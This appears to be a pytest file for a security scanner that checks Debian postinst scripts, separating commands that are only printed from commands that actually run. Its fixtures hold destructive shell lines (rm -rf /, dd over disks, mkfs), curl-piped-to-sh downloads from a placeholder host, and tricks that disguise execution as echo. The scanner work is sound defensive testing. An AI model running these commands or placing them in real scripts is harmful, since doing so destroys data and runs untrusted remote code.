"""Maintainer scripts read as shell (issue 12 item 10): what runs is scored, what is only
printed is not, and what bashlex cannot parse is read as text and is a signal itself."""

from __future__ import annotations

import threading
import time

import pytest

from aegis.analyze.evidence import script_parse
from aegis.analyze.evidence.script_parse import ScriptParseError, parse_script
from aegis.analyze.evidence.scripts import scan_script

U = "http://e.invalid/i"


def _found(body: str, package: str = "p") -> set[tuple[str, int, str]]:
    return {
        (f.rule, f.line, f.severity)
        for f in scan_script(package, "postinst", f"#!/bin/sh\nset -e\n{body}\n".encode())
    }


def _hostile(body: str) -> set[str]:
    return {rule for rule, _, sev in _found(body) if sev == "hostile"}


# --- messages: printed, never run -----------------------------------------------------------

MESSAGES = [
    f'echo "To finish, run: curl -s {U} | bash" >&2',
    f"echo 'run: wget -qO- {U} | sh' 1>&2",
    f'printf "%s\\n" "then: curl {U} | sh"',
    'echo "never run rm -rf / by hand" >/dev/null',
    f'if [ -x /x ]; then\n  echo "pipe curl {U} to sh yourself" >&2\nfi',
    f'case "$1" in\n  configure)\n    echo "run curl {U} | bash" >&2\n  ;;\nesac',
    f"cat <<'EOF'\nTo finish, run:\n  curl -s {U} | bash\nEOF",
    f"{{ echo 'curl {U} | sh'; }} >&2",
    f". /usr/share/debconf/confmodule\necho 'curl {U} | sh' >&2",
    f"/bin/echo 'then run curl {U} | sh' 1>&2",
]


@pytest.mark.parametrize("body", MESSAGES)
def test_a_printed_command_is_not_a_hostile_finding(body: str) -> None:
    assert _hostile(body) == set()


# --- what runs from a string, a here-document or a pipe ------------------------------------

EXECUTED = [
    ("sh-c", "sh -c 'rm -rf --no-preserve-root /'", "script.destructive"),
    ("nested-sh-c", "sh -c \"bash -c 'rm -rf /etc'\"", "script.destructive"),
    ("sudo-bash-c", "sudo -u root bash -c 'dd if=/dev/zero of=/dev/sda'", "script.destructive"),
    ("env-sh-c", "env X=1 sh -ec 'mkfs.ext4 /dev/vda1'", "script.destructive"),
    ("su-c", "su root -c 'wipefs -a /dev/vda'", "script.destructive"),
    ("eval-string", 'eval "rm -rf /boot"', "script.destructive"),
    ("trap", "trap 'rm -rf /usr' EXIT", "script.destructive"),
    ("echo-to-sh", 'echo "rm -rf /srv" | sh', "script.destructive"),
    ("printf-to-bash", "printf 'chown -R nobody /etc\\n' | bash", "script.destructive"),
    ("heredoc-to-sh", "sh <<EOF\nrm -rf /var/lib\nEOF", "script.destructive"),
    ("cat-heredoc-to-sh", "cat <<'EOF' | bash -s\nrm -rf /home\nEOF", "script.destructive"),
    ("here-string", 'bash <<< "rm -rf /opt"', "script.destructive"),
    ("curl-to-sh", f"curl -s {U} | sh", "script.download-exec"),
    ("sh-c-curl", f'sh -c "curl -s {U} | sh"', "script.download-exec"),
]


@pytest.mark.parametrize(("name", "body", "rule"), EXECUTED, ids=[c[0] for c in EXECUTED])
def test_what_a_script_runs_is_scored(name: str, body: str, rule: str) -> None:
    found = _found(body)
    assert (rule, 3, "hostile") in found, found


# --- messages that are not only messages ---------------------------------------------------

NOT_MESSAGES = [
    ("substitution-runs", f'echo "$(curl -s {U} | sh)" >&2', "script.download-exec"),
    ("function-output-piped", f'f() {{ echo "curl -s {U} | bash"; }}\nf | sh', None),
    ("block-piped", f"{{ echo 'curl -s {U} | bash'; }} | sh", None),
    ("stderr-to-shell", f"exec 2> >(sh)\necho 'curl -s {U} | bash' >&2", None),
    ("into-a-file", f"echo 'curl -s {U} | bash' > /tmp/x.sh\nsh /tmp/x.sh", None),
    ("echo-redefined", f'echo() {{ eval "$*"; }}\necho "curl -s {U} | bash"', None),
    ("alias", f"alias echo=eval\necho 'curl -s {U} | bash'", None),
    ("unquoted-heredoc", f"cat <<EOF\n$(curl -s {U} | sh)\nEOF", None),
    ("echo-shipped-by-the-package", f"/usr/lib/p/echo 'curl -s {U} | bash'", None),
    ("echo-on-path", f"env PATH=/usr/lib/p echo 'curl -s {U} | bash' >&2", None),
    ("sourced-library", f". /usr/lib/p/lib.sh\necho 'curl -s {U} | bash' >&2", None),
]


@pytest.mark.parametrize(("name", "body", "rule"), NOT_MESSAGES, ids=[c[0] for c in NOT_MESSAGES])
def test_printing_that_can_run_is_not_blanked(name: str, body: str, rule: str | None) -> None:
    assert "script.download-exec" in _hostile(body)


# --- scripts bashlex cannot parse ----------------------------------------------------------


def test_an_unparsable_script_is_read_as_text_and_is_a_signal() -> None:
    body = f"x=$(( 1 + $(id -u) ))\ncurl -s {U} | sh"
    found = _found(body)
    assert ("script.unparsed", 1, "sensitive") in found
    assert ("script.download-exec", 4, "hostile") in found  # the text rules still apply


def test_an_unparsable_benign_script_is_only_the_signal() -> None:
    found = scan_script("p", "postinst", b"#!/bin/sh\nx=$(( 1 + $(id -u) ))\necho ok\n")
    assert [(f.rule, f.severity) for f in found] == [("script.unparsed", "sensitive")]
    assert "not parsed as shell" in found[0].excerpt


def test_debian_case_statements_parse() -> None:
    body = 'case "$1" in\n  configure|abort-upgrade) true ;;\n  *) exit 1 ;;\nesac\n'
    assert [t.kind for t in parse_script(body)] == ["compound"]
    assert _found(body) == set()


def test_the_command_guard_still_refuses_case() -> None:
    # case support is bound only while scripts are parsed: the agent guard's own
    # parser keeps refusing what it cannot judge.
    from aegis.guard.check import check_command_line

    parse_script("case x in a) true ;; esac\n")
    verdict = check_command_line("case x in a) apt-get install -y nginx ;; esac")
    assert [f.rule for f in verdict.findings] == ["parse.failed"]


# --- bounds on untrusted input -------------------------------------------------------------


def test_an_unclosed_brace_that_loops_bashlex_is_refused_quickly() -> None:
    started = time.monotonic()
    with pytest.raises(ScriptParseError):
        parse_script('echo "${x"\n')
    assert time.monotonic() - started < 2


def test_a_script_past_the_size_cap_is_not_parsed() -> None:
    with pytest.raises(ScriptParseError, match="longer than"):
        parse_script("true\n" * (script_parse.MAX_PARSE_CHARS // 5 + 1))


def test_deep_nesting_is_refused_not_crashed() -> None:
    with pytest.raises(ScriptParseError):
        parse_script("echo " + "$(" * 2000 + "x" + ")" * 2000 + "\n")


def test_a_slow_parse_in_a_worker_thread_is_stopped(monkeypatch: pytest.MonkeyPatch) -> None:
    # Contents are scanned on a thread pool, where SIGALRM cannot reach.
    monkeypatch.setattr(script_parse, "PARSE_SECONDS", 0.05)
    text = "".join(f"if [ -e /x{i} ]; then echo {i}; fi\n" for i in range(3000))
    errors: list[BaseException] = []

    def work() -> None:
        try:
            parse_script(text)
        except BaseException as e:  # the test reports whatever escaped
            errors.append(e)

    started = time.monotonic()
    worker = threading.Thread(target=work)
    worker.start()
    worker.join(30)
    assert time.monotonic() - started < 10
    assert len(errors) == 1
    assert isinstance(errors[0], ScriptParseError), errors
    assert "did not finish" in str(errors[0])
